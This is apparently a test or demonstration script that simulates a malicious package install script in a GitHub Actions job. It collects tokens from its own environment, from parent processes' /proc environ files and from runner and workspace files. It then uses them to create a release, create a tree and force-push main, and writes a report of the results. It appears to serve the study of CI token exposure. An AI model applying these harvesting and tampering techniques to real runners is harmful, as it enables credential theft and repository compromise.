// What the install script of a package that has turned bad can do in a job: it looks for tokens in its environment, in that
// of the processes above it and in the files of the runner, and changes what it can on GitHub. It leaves a report.
import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";

const { GITHUB_WORKSPACE: workspace, GITHUB_API_URL: api, GITHUB_REPOSITORY: repository } = process.env;
const MOST = 1 << 20;

/** The environments of this process and of those above it, up to the one that the tests run in. */
function environments() {
  const found = [JSON.stringify(process.env)];
  for (let pid = process.ppid, level = 0; pid > 1 && level < 2; level++) {
    try {
      found.push(readFileSync(`/proc/${pid}/environ`, "latin1"));
      pid = Number(/^PPid:\s*(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, "latin1"))[1]);
    } catch {
      break;
    }
  }
  return found;
}

/** The small files of the workspace, and those that the runner names in the environment. */
function files() {
  const named = Object.entries(process.env).flatMap(([name, value]) =>
    /^(GITHUB|RUNNER)_/.test(name) ? [value] : [],
  );
  const below = readdirSync(workspace, { recursive: true, encoding: "utf8" })
    .filter((path) => !path.startsWith("node_modules"))
    .map((path) => join(workspace, path));
  return [...named, ...below]
    .filter((path) => existsSync(path) && statSync(path).isFile() && statSync(path).size < MOST)
    .map((path) => readFileSync(path, "latin1"));
}

const tokens = [
  ...new Set([...environments(), ...files()].flatMap((text) => text.match(/token-of-[\w-]+/g) ?? [])),
];

const answers = [];
async function attempt(token, method, path, body) {
  const headers = { "content-type": "application/json", ...(token && { authorization: `token ${token}` }) };
  const answer = await fetch(`${api}/repos/${repository}${path}`, {
    ...{ method, headers, body: body && JSON.stringify(body) },
  });
  answers.push({ did: `${method} ${path}`, token: token !== undefined, status: answer.status });
}
for (const token of [undefined, ...tokens]) {
  await attempt(token, "POST", "/releases", { tag_name: "evil", draft: true });
  await attempt(token, "POST", "/git/trees", { tree: [] });
  await attempt(token, "PATCH", "/git/refs/heads/main", { sha: "e".repeat(40), force: true });
}
writeFileSync(join(workspace, "bad-package.json"), JSON.stringify({ tokens: tokens.length, answers }));
